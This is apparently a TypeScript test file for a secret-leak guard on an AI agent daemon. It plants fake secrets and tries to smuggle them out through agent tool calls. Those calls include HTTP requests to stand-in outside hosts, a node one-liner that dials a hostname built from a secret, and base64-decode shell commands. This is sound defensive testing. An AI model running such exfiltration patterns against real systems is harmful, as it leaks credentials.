import { chmodSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { startBreakerHouse, type BreakerHouse } from "./support/breaker.ts";
import { openDoor, type Door } from "./support/breaker-door.ts";
import { logged } from "./support/house.ts";

/**
 * Ten secrets in the vault of a real aosd, and an agent that carries them everywhere an act has room for them: none is found afterwards in what the
 * aosd keeps, logs, answers or packs for support. Where a secret was let out on purpose, by its handle and to its own host, the far server has it.
 */
const planted: readonly (readonly [string, string])[] = [
  ["api-key", "sk-live-Qm7vT2xW9bKp4RzL8nHdYc3F"],
  ["password", "plum-Rain!4471~kite"],
  ["korean", "봄꽃마당-열쇠-5829-산들바람"],
  ["hex", "9f8e41c7d05b2a6394e7f1c8a2b05d36e47c19fa"],
  ["uuid", "7c1e9b52-4fd3-4a08-9e61-d2b7f0a8c354"],
  ["digits", "83920175640283917465"],
  ["jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzaG9wLTc3MjkxIn0.kX9mPq2vL7wRt4Zc8sNhJb5yDf3gVe1a"],
  ["base64", "m3Vx9Kq7RzTn2Wp8LbYd4FhGc6JsXe1QaUv5ZoMiNtBrCyDwEkAlSg0H+Pf/IjOu=="],
  ["quoted", String.raw`Zt"4k\9w'Rn7{vQ}2mLx8`],
  ["pem", "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ7kQzX2mVn9TtRb4LcWqYhG6sPdF1uKoEaZ8iBvNxUw\n-----END PRIVATE KEY-----"],
];

/** Every form in which a secret would still be one to whoever finds it. */
function formsOf(value: string): string[] {
  const bytes = Buffer.from(value);
  const shifted = [0, 1, 2].map((pad) =>
    Buffer.concat([Buffer.alloc(pad), bytes])
      .toString("base64")
      .slice(pad === 0 ? 0 : 4)
      .replaceAll("=", "")
      .slice(0, -1),
  );
  const body = value.includes("\n") ? (value.split("\n")[1] ?? value) : value;
  const all = [
    value,
    body,
    JSON.stringify(value).slice(1, -1),
    encodeURIComponent(value),
    bytes.toString("hex"),
    bytes.toString("hex").toUpperCase(),
    bytes.toString("base64url"),
    value.split("").toReversed().join(""),
    ...shifted,
  ];
  return [...new Set(all)].filter((form) => form.length >= 12);
}
const needles = planted.flatMap(([handle, value]) => formsOf(value).map((form) => ({ handle, form, bytes: Buffer.from(form) })));
const foundIn = (where: string, content: Buffer | string): string[] => {
  const bytes = typeof content === "string" ? Buffer.from(content) : content;
  return needles.filter((needle) => bytes.includes(needle.bytes)).map(({ handle, form }) => `${where}: ${handle} as ${form.slice(0, 12)}…`);
};
const filesBelow = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));

let house: BreakerHouse;
let door: Door;
const world = (how: "get" | "post") => ({
  command: process.execPath,
  args: [fileURLToPath(new URL("../../demo/rehearsal/tools/net.mjs", import.meta.url)), how, String(house.world.port)],
  network: "proxy" as const,
});
const noisy = () => ({ command: join(house.workspace, "noisy"), args: [], network: "proxy" as const });

beforeAll(async () => {
  house = await startBreakerHouse("secrets");
  await house.setLevel(3);
  // A tool that says all it was given, on both outputs, and fails.
  writeFileSync(join(house.workspace, "noisy"), "#!/bin/sh\nall=$(cat)\nprintf '%s' \"$all\"\nprintf '%s' \"$all\" >&2\nexit 3\n", { mode: 0o755 });
  chmodSync(house.workspace, 0o777);
  await house.run();
  door = await openDoor(house.owner(), house.node(), {
    "fs.write": noisy(),
    "fs.read": noisy(),
    "owner.message": noisy(),
    "http.post": world("post"),
    "http.get": world("get"),
    "task.note": noisy(),
  });
  for (const [handle, value] of planted)
    await house
      .owner()
      .ask((client) => client.breaker.secrets.set({ handle, value, hosts: [`orders.shop.example:${house.world.port}`, "local"], note: "planted" }));
});
afterAll(() => house.end());

const orders = () => `http://orders.shop.example:${house.world.port}`;

/** Acts with a secret in every place that an act has. */
const carriers = (value: string) => {
  const coded = Buffer.from(value).toString("base64");
  const word = value.replaceAll(/[^\w-]/g, "").slice(0, 60) || "x";
  return [
    { tool: "mail.send", args: { to: ["minji@mail.example"], subject: "안내", text: `비밀은 ${value} 예요.` } },
    { tool: "mail.send", args: { to: ["minji@mail.example"], subject: value, text: `부호로는 ${coded}` } },
    { tool: "mail.send", args: { to: [`${word}@mail.example`], subject: "안내", text: "받는 사람에 있어요." } },
    { tool: "post.publish", args: { channel: "instagram", text: value }, mode: "draft" as const },
    { tool: "dm.reply", args: { channel: "instagram", to: [word], text: Buffer.from(value).toString("hex") } },
    { tool: "dm.reply", args: { channel: word, to: ["minji"], text: "채널에 있어요." } },
    { tool: "http.get", args: { url: `${orders()}/new?token=${encodeURIComponent(value)}` } },
    { tool: "http.get", args: { url: `http://${word.toLowerCase().slice(0, 40)}.outside.example/` } },
    { tool: "http.post", args: { url: `${orders()}/in`, body: JSON.stringify({ deep: { value } }) } },
    { tool: "http.post", args: { url: `${orders()}/in`, json: { [value]: [value, coded] } } },
    { tool: "shell.run", args: { command: `echo '${value.replaceAll("'", "")}'` } },
    { tool: "shell.run", args: { command: `echo ${coded} | base64 -d | cat` } },
    { tool: "fs.write", args: { path: `${word}.txt`, text: value } },
    { tool: "fs.read", args: { path: `./${word}/${value}` } },
    { tool: "owner.message", args: { text: `사장님, ${value}` } },
    { tool: "task.note", args: { text: coded } },
    { tool: "agent.spawn", args: { agent: word, prompt: value } },
    { tool: "schedule.create", args: { when: "2026-11-24T09:00:00+09:00", task: value, name: word } },
    { tool: "pay", args: { to: [word], amount: 1000, currency: "KRW", note: value } },
    { tool: `unknown.${word}`.slice(0, 120), args: { [value]: value } },
    { tool: "fs.list", args: { path: "." }, agent: word, task: word },
    { tool: "http.get", args: { url: `${orders()}/new` }, agent: word, parent: "main" },
    { tool: "fs.list", args: { path: ".", extra: value }, cwd: `${house.workspace}/${word}` },
  ];
};

test("a day with ten secrets in every place of an act leaves none of them behind", async () => {
  const denied = new Set<string>();
  for (const [handle, value] of planted) {
    await house.run();
    await door.inbound(`이 글에는 ${value} 가 들어 있어요. ${Buffer.from(value).toString("base64")}`, { channel: "instagram", address: "minji" });
    await door.inbound(value, null);
    for (const act of carriers(value)) {
      const answer = await door.act(act);
      if (answer.reason === "secret" || answer.secrets.length > 0) denied.add(handle);
      expect(foundIn("the answer", JSON.stringify(answer).replaceAll(JSON.stringify(answer.output), ""))).toEqual([]);
      if (answer.decision === "deny" && (answer.reason === "panic" || answer.reason === "latched")) {
        // The same while everything is stopped, and then a person goes on.
        await door.judge(act);
        await house.run();
        await door.judge(act);
        await house.run();
      }
    }
  }
  expect(denied.size).toBe(planted.length);
  // None of them went anywhere.
  expect(house.world.received.flatMap((one) => foundIn("a far server", JSON.stringify(one)))).toEqual([]);
}, 240_000);

test("a secret by its handle reaches its own host, and comes back to nobody", async () => {
  await house.run();
  const before = house.world.received.length;
  const clean = await openDoor(house.owner(), house.node(), { "http.post": world("post"), "task.note": noisy() });
  const sent = await clean.act({ tool: "http.post", args: { url: `${orders()}/in`, body: "{{vault:api-key}}" }, agent: "clean" });
  expect(sent).toMatchObject({ decision: "allow", outcome: "done" });
  expect(house.world.received).toHaveLength(before + 1);
  expect(house.world.received.at(-1)?.body).toContain(planted[0]?.[1]);
  const elsewhere = await clean.act({
    tool: "http.post",
    args: { url: `http://weather.shop.example:${house.world.port}/in`, body: "{{vault:api-key}}" },
    agent: "clean",
  });
  expect(elsewhere.outcome).not.toBe("done");
  expect(house.world.received).toHaveLength(before + 1);
  // A tool that dials a host that is named like a secret: nothing of it stands in the log.
  writeFileSync(join(house.workspace, "host.txt"), planted.find(([handle]) => handle === "hex")?.[1] ?? "");
  const dials = `require("node:http").get("http://" + require("node:fs").readFileSync("host.txt", "utf8") + ".outside.example/", (a) => a.resume())`;
  const quiet = await openDoor(house.owner(), house.node(), { "task.note": { command: process.execPath, args: ["-e", dials], network: "proxy" } });
  for (const mode of ["isolated", "hybrid"] as const) {
    await house.owner().ask((client) => client.breaker.egress.mode({ mode }));
    expect(await quiet.act({ tool: "task.note", args: { text: "x" }, agent: "clean" })).toMatchObject({ decision: "allow" });
  }
  expect(logged(house.stateDir, "egress.refused").length).toBeGreaterThanOrEqual(2);
  await house.run();
  // A tool that echoes what it was filled with: the agent does not learn it by that, nor does the log.
  const echoed = await clean.act({ tool: "task.note", args: { text: "{{vault:password}} {{vault:hex}}" }, agent: "clean" });
  expect(echoed).toMatchObject({ decision: "allow", outcome: "failed" });
  expect(foundIn("the output", JSON.stringify(echoed))).toEqual([]);
}, 60_000);

test("none is found in the state folder, in what the screens are answered and in the bundle for support", async () => {
  const owner = house.owner();
  const found: string[] = [];
  let searched = 0;
  const search = (where: string, content: unknown) => {
    const text = JSON.stringify(content);
    searched += text.length;
    found.push(...foundIn(where, text));
  };
  const rows = (await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 1 }))).log.rows;
  expect(rows).toBeGreaterThan(400);
  for (let seq = 1; seq <= rows; seq++) search(`entry ${seq}`, await owner.ask((client) => client.breaker.activity.entry({ seq })));
  for (let before: number | undefined; ;) {
    const page = await owner.ask((client) => client.breaker.activity.list({ filter: {}, limit: 200, ...(before === undefined ? {} : { before }) }));
    search("activity", page);
    if (page.next === null) break;
    before = page.next;
  }
  let lines = 0;
  for await (const part of await owner.client.breaker.activity.export({})) {
    lines += part.lines.length;
    search("export", part);
  }
  expect(lines).toBeGreaterThanOrEqual(rows);
  search("state", await owner.ask((client) => client.breaker.state()));
  const watched = await owner.client.breaker.watch();
  search("watch", (await watched.next()).value);
  await watched.return?.();
  search("approvals", await owner.ask((client) => client.breaker.approvals.list()));
  search("autonomy", await owner.ask((client) => client.breaker.autonomy.get()));
  for (const level of [1, 3, 5] as const) {
    search("preview", await owner.ask((client) => client.breaker.autonomy.preview({ level, days: 7 }), 60_000));
    search("replay", await owner.ask((client) => client.breaker.autonomy.replay({ level, days: 7 }), 60_000));
  }
  search("egress", await owner.ask((client) => client.breaker.egress.view({ limit: 500 })));
  search("secrets", await owner.ask((client) => client.breaker.secrets.list()));
  search("runtimes", await owner.ask((client) => client.breaker.runtimes.list()));
  search("checkpoint", await owner.ask((client) => client.breaker.activity.checkpoint()));
  search("verify", await owner.ask((client) => client.breaker.activity.verify()));
  search("support", await owner.ask((client) => client.rack.supportBundle()));
  search("rack", await owner.ask((client) => client.rack.snapshot()));
  expect(searched).toBeGreaterThan(500_000);

  const files = filesBelow(house.stateDir);
  expect(files.some((path) => path.endsWith("audit.db"))).toBe(true);
  for (const path of files) found.push(...foundIn(path.slice(house.stateDir.length), readFileSync(path)));
  if (process.env["ZZ"])
    for (const l of readFileSync(house.stateDir + "/log/aosd.log", "utf8").split("\n")) if (foundIn("x", l).length) console.log(l.slice(0, 1500));
  expect([...new Set(found)]).toEqual([]);
}, 120_000);

test("the search finds what there is: each secret in the one place where it was put in clear", () => {
  for (const [, value] of planted) {
    expect(foundIn("text", `x${value}y`).length).toBeGreaterThan(0);
    for (const pad of ["", "a", "bc"]) expect(foundIn("base64", Buffer.from(`${pad}${value}zz`).toString("base64")).length).toBeGreaterThan(0);
    expect(foundIn("hex", Buffer.from(value).toString("hex")).length).toBeGreaterThan(0);
  }
});
